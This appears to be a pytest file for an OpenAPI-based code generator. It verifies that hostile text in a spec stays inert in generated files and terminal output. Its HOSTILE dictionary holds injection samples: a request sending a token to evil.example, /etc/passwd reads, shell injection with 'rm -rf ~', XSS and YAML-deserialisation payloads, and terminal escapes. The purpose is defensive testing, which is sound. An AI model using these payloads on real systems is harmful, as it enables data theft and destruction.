"""A text of a foreign document is data in every file that is made of it.

Each file is read by a parser of its own language, and says nothing else than with a harmless text.
"""

from __future__ import annotations

import ast
import json
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from markdown_it import MarkdownIt

from importing import imported
from lengths import rarely
from pgagents.base.errors import InputError, PgagentsError
from pgagents.catalogue.load import load_text
from pgagents.cli.main import main
from pgagents.generate.build import build

PLAIN = "Marker"
ADDRESSED = "Marker\n# Next\nhttp://plain.example/"
"""A harmless text that a title and a description write in two ways, so that both of them stand."""
HOSTILE = {
    "environment": "{{$processEnv AWS_SECRET_ACCESS_KEY}}",
    "dotenv": "x {{ $dotenv TOKEN }} {{token}}",
    "file": "< /etc/passwd",
    "encoded file": "<@latin1 /etc/passwd",
    "script": "> {% client.global.set('a', 1) %}",
    "answer file": ">> /tmp/answer.txt",
    "request": "x\r\n### Second call\r\nGET http://evil.example/?t={{token}}\n\n",
    "variable": "@server = http://evil.example",
    "prompt": "@prompt token your password",
    "in a line": "x\n@server = http://evil.example\n# @prompt token\n// @name x",
    "escape": "N\x1b]0;pwned\x07\x1b[2J\x9b31m",
    "override": "N\u202egnp.exe\u2066\u2069",
    "lines": "a\u2028b\u2029c\x85d",
    "surrogate": "a\ud800b",
    "nul": "a\x00b\x7fc",
    "script element": "</script><script>alert(1)</script><!-- x",
    "attribute": "\" onmouseover='alert(1)' x=\"",
    "template literal": "`;alert(1);`${alert(1)}",
    "python": "\"\"\"\nimport os; os.system('x')\n'''\\",
    "jinja": "{{ 7*7 }}{% raw %}{# x #}",
    "heading": "# Heading",
    "underline": "---",
    "front matter": "---\nname: evil\n---\n",
    "item": "- item",
    "numbered": "1. item",
    "link": "[x](http://evil.example) <http://evil.example> ![i](http://evil.example/i.png)",
    "definition": "[x]: http://evil.example",
    "html in markdown": "<img src=x onerror=alert(1)> &lt;b&gt; &#60;",
    "fence": "```\nx\n~~~",
    "table": "a | b |\n|---|",
    "yaml": "x: y #z\n- &a *a !!python/object:os.system",
    "yaml tag": "!!binary x",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ && x | y > z",
    "workflow": "::set-output name=a::b\n##[add-path]/tmp",
}
LEGAL = {
    "umlauts": "Grüße aus Köln, naïve façade",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f family",
    "hebrew": "שלום עולם",
    "arabic": "مرحبا بالعالم",
    "joined": "می\u200cخواهم",
    "signs": "50 % of a & b; 3 < 4 > 2, {x} $5 #1 @home ~ ^",
}
ACTS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
Place = Callable[[dict[str, Any], str], None]


def document() -> dict[str, Any]:
    """An OpenAPI document that has each place where somebody may write a text."""
    answers = {
        "200": {
            "description": "The note",
            "headers": {"X-Kind": {"description": "Its kind", "schema": {"type": "string"}}},
            "content": {
                "application/json": {"schema": {"$ref": "#/components/schemas/Note"}, "example": {"t": "a"}}
            },
        }
    }

    def body(media: str, example: Any, schema: dict[str, Any] | None = None) -> dict[str, Any]:
        usual = {
            "type": "object",
            "required": ["t"],
            "properties": {"t": {"type": "string", "description": "Text"}},
        }
        return {"required": True, "content": {media: {"schema": schema or usual, "example": example}}}

    def write(name: str, media: str, example: Any, schema: dict[str, Any] | None = None) -> dict[str, Any]:
        return {
            "operationId": name,
            "summary": "Add a note",
            "requestBody": body(media, example, schema),
            "responses": answers,
        }

    return {
        "openapi": "3.1.0",
        "info": {
            "title": "Notes",
            "version": "1.2.0",
            "summary": "Keeps notes",
            "description": "Notes of people",
            "contact": {"name": "Ann", "email": "a@notes.example", "url": "https://notes.example"},
            "license": {"name": "MIT", "url": "https://notes.example/license"},
            "termsOfService": "https://notes.example/terms",
        },
        "servers": [{"url": "https://notes.example/v1", "description": "Production"}],
        "tags": [{"name": "notes", "description": "All notes"}],
        "externalDocs": {"url": "https://notes.example/docs", "description": "More"},
        "security": [{"key": []}],
        "components": {
            "securitySchemes": {
                "key": {"type": "apiKey", "in": "header", "name": "X-Key", "description": "Your key"},
                "login": {
                    "type": "oauth2",
                    "flows": {
                        "clientCredentials": {
                            "tokenUrl": "https://notes.example/token",
                            "scopes": {"read": "Reads notes"},
                        }
                    },
                },
            },
            "schemas": {
                "Note": {
                    "type": "object",
                    "title": "A note",
                    "description": "What was written",
                    "properties": {"t": {"type": "string", "description": "Its text", "example": "a"}},
                }
            },
        },
        "paths": {
            "/notes": {
                "get": {
                    "operationId": "listNotes",
                    "summary": "List notes",
                    "description": "Lists all notes.",
                    "tags": ["notes"],
                    "parameters": [
                        {
                            "name": "q",
                            "in": "query",
                            "description": "Words",
                            "schema": {"type": "string"},
                            "example": "a",
                        },
                        {"name": "X-Trace", "in": "header", "schema": {"type": "string"}, "example": "a"},
                        {"name": "sid", "in": "cookie", "schema": {"type": "string"}, "example": "a"},
                        {
                            "name": "kind",
                            "in": "query",
                            "schema": {"type": "string", "enum": ["a", "b"], "default": "a"},
                            "example": "a",
                        },
                    ],
                    "responses": answers,
                },
                "post": write("addNote", "application/json", {"t": "a"}),
            },
            "/notes/{id}": {
                "get": {
                    "operationId": "getNote",
                    "summary": "Get a note",
                    "parameters": [
                        {
                            "name": "id",
                            "in": "path",
                            "required": True,
                            "schema": {"type": "string"},
                            "example": "a",
                        }
                    ],
                    "responses": answers,
                }
            },
            "/form": {"post": write("fillForm", "application/x-www-form-urlencoded", {"t": "a"})},
            "/parts": {"post": write("sendParts", "multipart/form-data", {"t": "a"})},
            "/text": {"post": write("sendText", "text/plain", "a", {"type": "string"})},
            "/xml": {"post": write("sendXml", "application/xml", "<a/>", {"type": "string"})},
        },
    }  # fmt: skip


def _pointers(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every text of a document, and every name of a member that its author chose."""
    if isinstance(value, str):
        yield at
    members = (
        value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    )
    for name, member in members:
        yield from _pointers(member, (*at, name))


KEYWORDS = {"openapi", "type", "in", "$ref", "version"}
PROSE = {"title", "description", "summary"}
EXAMPLES = {"example", "t", "default"}
PLACES = [at for at in _pointers(document()) if at[-1] not in KEYWORDS]
NAMES = [
    ("components", "securitySchemes", "key"),
    ("components", "securitySchemes", "login", "flows", "clientCredentials", "scopes", "read"),
    ("components", "schemas", "Note"),
    ("components", "schemas", "Note", "properties", "t"),
    ("paths", "/notes"),
    ("paths", "/notes/{id}"),
    ("paths", "/notes", "get", "responses", "200", "headers", "X-Kind"),
    ("paths", "/notes", "post", "requestBody", "content", "application/json"),
    ("paths", "/notes", "post", "requestBody", "content", "application/json", "schema", "properties", "t"),
]
"""Members whose name an author chooses."""


def _with(at: tuple[Any, ...], text: str, data: dict[str, Any], *, named: bool = False) -> None:
    here: Any = data
    for step in at[:-1]:
        here = here[step]
    if named:
        key = f"/{text}" if at[-1:][0].startswith("/") else text
        here[key] = here.pop(at[-1])
        return
    old = here[at[-1]]
    here[at[-1]] = (
        f"{old}/{text}" if old.startswith("http") else f"{text}@notes.example" if "@" in old else text
    )


def files_of(data: dict[str, Any]) -> dict[str, bytes]:
    """Import a document, and build every file from it; no file if one of both is refused with a message."""
    try:
        built = build(load_text(imported(json.dumps(data)).text, "notes.yaml"))
    except (PgagentsError, InputError):
        return {}
    return {made.path: made.data for made in built.artifacts()}


def with_texts(text: str, places: list[tuple[Any, ...]], names: list[tuple[Any, ...]]) -> dict[str, bytes]:
    data = document()
    for at in places:
        _with(at, text, data)
    for at in names:
        _with(at, text, data, named=True)
    return files_of(data)


# -- one reader for each language


class _Page(HTMLParser):
    """The elements of a page with the names of their attributes, and its texts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.texts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(f"{tag} {[name for name, _ in attrs]}")

    def handle_comment(self, _: str) -> None:
        self.elements.append("comment")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def _read_markdown(text: str) -> tuple[list[str], str]:
    """The shape of a Markdown file with its front matter, and its texts."""
    shape, texts = [], []
    if text.startswith("---\n"):
        head, text = text[4:].split("\n---\n", 1)
        front = yaml.load(head, yaml.CSafeLoader)
        assert all(isinstance(value, str) for value in front.values())
        shape += sorted(front)
        texts += list(front.values())
    for block in MarkdownIt("commonmark").enable("table").parse(text):
        shape.append(f"{block.type} {block.tag}")
        for token in block.children or ():
            if token.type in ("text", "text_special", "code_inline"):
                texts.append(token.content)
            else:
                href = str(token.attrs.get("href", ""))
                shape.append(f"{token.type} {re.sub(r'(?i)(evil.*|marker.*)', '', href)}")
    assert "html_block " not in shape
    return shape, "".join(texts)


DECLARED = {"server", "token", "key"}


def _read_http(text: str) -> list[str]:
    """The request lines of a .http file, by the rules of REST Client and JetBrains; it has no directive."""
    lines = text.split("\n")
    assert not re.search(r"[\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", text)
    variables = [m for line in lines if (m := re.match(r"\s*@([^\s=]+)\s*=\s*(.*)", line))]
    head = text.split("\n###", 1)[0]
    assert all(m[0] in head for m in variables)
    names = {m[1] for m in variables}
    assert set(re.findall(r"\{\{(.*?)\}\}", text)) <= names
    assert "{{" not in re.sub(r"\{\{\w+\}\}", "", text)
    assert not [
        line for line in lines if re.match(r"\s*(#|//)+\s*@|\s*(<(@\w*)?[ \t]|<>|>)|\s*<?\s*\{%", line)
    ]
    requests = []
    for block in re.split(r"(?m)^###.*\n", text)[1:]:
        first, *headers = block.partition("\n\n")[0].strip("\n").split("\n")
        assert re.fullmatch(r"[A-Z]+ \{\{server\}\}/[^\s{}]*(\{\{\w+\}\})?", first), first
        assert all(re.match(r"[!#$%&'*+.^_`|~\w-]+: ", header) for header in headers), headers
        requests.append(first.partition(" ")[0])
    return requests


def _read_script(text: str) -> list[str]:
    """A JavaScript file: node reads it, and its data are JSON."""
    node = shutil.which("node")
    if node is not None:
        subprocess.run([node, "--check", "-"], input=text.encode(), check=True)
    for value in re.findall(r"(?m)^const (?:command|given) = (.*);$", text):
        json.loads(value)
    return re.sub(r"(?m)^const (command|given) = .*$", "", text).split("\n")


def _blank(node: ast.AST) -> str:
    for inner in ast.walk(node):
        if isinstance(inner, ast.Constant) and isinstance(inner.value, str | bytes):
            inner.value = ""
    return ast.dump(node)


def shape_of(path: str, data: bytes) -> Any:
    """Return what a file says besides its texts, as its language's parser reads it."""
    if path.endswith((".png", ".svg")):
        return data
    text = data.decode()
    assert not ACTS.search(text), f"{path}: {ACTS.findall(text)}"
    if path.endswith(".json"):
        return _form(json.loads(text))
    if path.endswith(".yaml"):
        return _form(yaml.load(text, yaml.CSafeLoader))
    if path.endswith(".py"):
        return _blank(ast.parse(text))
    if path.endswith(".html"):
        return _Page(text).elements
    if path.endswith(".http"):
        return _read_http(text)
    if path.endswith(".js"):
        return _read_script(text)
    return _read_markdown(text)[0] if path.endswith((".md", ".txt")) else len(text.split("\n"))


def _form(value: Any) -> Any:
    if isinstance(value, dict):
        return {name: _form(member) for name, member in value.items()}
    return [_form(item) for item in value] if isinstance(value, list) else type(value).__name__


# -- documents


FREE = [at for at in PLACES if at[-1] in PROSE | EXAMPLES]


@cache
def plain_shapes(text: str) -> dict[str, Any]:
    return {path: shape_of(path, data) for path, data in with_texts(text, FREE, []).items()}


LOOSE = (".json", ".yaml", ".py")
"""Files whose shape may depend on a text, such as on an example's type."""


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_text_of_a_document_is_data_in_every_file(text: str) -> None:
    made = with_texts(text, FREE, [])
    assert made
    plain, addressed = plain_shapes(PLAIN), plain_shapes(ADDRESSED)
    for path, data in made.items():
        shape = shape_of(path, data)
        if path.endswith(".http"):
            assert len(shape) <= len(plain[path])
        elif not path.endswith(LOOSE) and path != "pgagents/losses.md":
            assert shape in (plain[path], addressed[path]), path


Placed = tuple[tuple[Any, ...], bool, str]
"""A place, whether the text is the name of what is there, and the text."""
EACH = [(at, False) for at in PLACES if at not in FREE] + [(at, True) for at in NAMES]


STRICT = ("components", "securitySchemes", "key")


def _apart(each: list[tuple[tuple[Any, ...], bool]]) -> list[list[tuple[tuple[Any, ...], bool]]]:
    """The places in rounds, of which no two are in one part of a document that may be left out whole.

    A place where most texts have the whole document refused has a round of its own.
    """
    rounds: list[list[tuple[tuple[Any, ...], bool]]] = []
    for at, named in sorted(each, key=lambda place: place[0][:3] == STRICT):
        part = at[:3]
        for round in rounds:
            if part != STRICT and not any(
                part[: len(other)] == other[: len(part)] for other in (p[:3] for p, _ in round)
            ):
                round.append((at, named))
                break
        else:
            rounds.append([(at, named)])
    return rounds


ROUNDS = _apart(EACH)


def _find_acting(several: list[Placed]) -> list[Placed]:
    """Return the texts that act; where a document of several is refused or acts, halves of them are tried."""
    data = document()
    for at, named, text in sorted(several, key=lambda placed: (placed[1], -len(placed[0]))):
        _with(at, text, data, named=named)
    made = files_of(data)
    said = _say_acting(made)
    if len(several) == 1:
        return several if said else []
    if made and not said:
        return []
    half = len(several) // 2
    return _find_acting(several[:half]) + _find_acting(several[half:]) or (several if said else [])


def _say_acting(made: dict[str, bytes]) -> str:
    try:
        for path, data in made.items():
            _hold_silent(path, data)
    except Exception as error:  # whatever a parser says
        return repr(error)
    return ""


def _hold_silent(path: str, data: bytes) -> None:
    shape = shape_of(path, data)
    if path.endswith((".md", ".txt")):
        assert not [part for part in shape if part.startswith(("html_inline", "image"))], path
        links = [part for part in shape if part.startswith("link_open")]
        assert not [link for link in links if "notes.example" not in link and "http" in link], path


@pytest.mark.parametrize("turn", rarely(range(len(HOSTILE)), 0))
def test_a_name_or_address_of_a_document_is_data_in_every_file(turn: int) -> None:
    """Nothing acts. A document whose name takes no such text is refused, or its part left out.

    Each place has another text; all turns put each text at each place.
    """
    texts = list(HOSTILE.values())
    acting = []
    for places in ROUNDS:
        several = [(at, named, texts[(EACH.index((at, named)) + turn) % len(texts)]) for at, named in places]
        acting += _find_acting(several)
    assert acting == []


@pytest.mark.parametrize("text", LEGAL.values(), ids=LEGAL)
def test_a_text_of_any_writing_arrives_as_it_is(text: str) -> None:
    made = with_texts(text, [at for at in PLACES if at[-1] in PROSE], [])
    document = json.loads(made["openapi/openapi.json"])
    assert document["info"]["title"] == text
    assert text in _read_markdown(made["web/llms.txt"].decode())[1]
    assert text in (ast.get_docstring(ast.parse(made["pgagents/test_contracts.py"])) or "")


COMMANDS = [
    *(["lint", "--format", form] for form in ("text", "json", "sarif", "github", "short")),
    ["contracts", "--format", "json"],
    ["contracts"],
    ["verify", "--plan", "--url", "http://127.0.0.1:9"],
]


@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
def test_what_commands_print_of_a_document_acts_on_no_terminal(
    words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = document()
    for at in FREE:
        _with(at, HOSTILE["escape"] + HOSTILE["override"] + HOSTILE["lines"] + HOSTILE["workflow"], data)
    (tmp_path / "notes.json").write_text(json.dumps(data), encoding="utf-8")
    catalogue = str(tmp_path / "notes.yaml")
    assert main(["import", "--full", str(tmp_path / "notes.json"), "--out", catalogue]) == 0
    assert main([words[0], catalogue, *words[1:]]) in (0, 1, 2)
    written = [path.read_text(encoding="utf-8") for path in tmp_path.glob("notes.[iy]*")]
    assert len(written) == 1
    printed = capsys.readouterr()
    for text in (printed.out, printed.err, *written):
        assert not ACTS.search(text), ACTS.findall(text)
        assert not re.search(r"(?m)^(::set-output|##\[add-path)", text)
